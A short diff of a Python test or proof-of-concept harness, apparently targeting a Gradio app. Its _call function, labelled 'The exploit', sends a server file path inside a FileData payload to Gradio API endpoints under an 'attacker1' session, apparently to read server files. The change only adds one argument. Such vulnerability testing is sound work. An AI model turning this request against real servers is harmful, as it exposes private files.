@@ -86,7 +86,7 @@ def _copies_of(token: str, extra: bytes | None = None) -> list[str]:
 
 def _call(client, path: str, route: str = "call"):
     """The exploit: the reference image given as a FileData with a server path."""
-    data = [{"path": path, "meta": FILEDATA}, CAPTION, "image", 3]
+    data = [{"path": path, "meta": FILEDATA}, CAPTION, "image", 3, False]
     if route == "call":
         return client.post("/gradio_api/call/search_page", json={"data": data})
     return client.post("/gradio_api/queue/join", json={"data": data, "fn_index": 0, "session_hash": "attacker1",
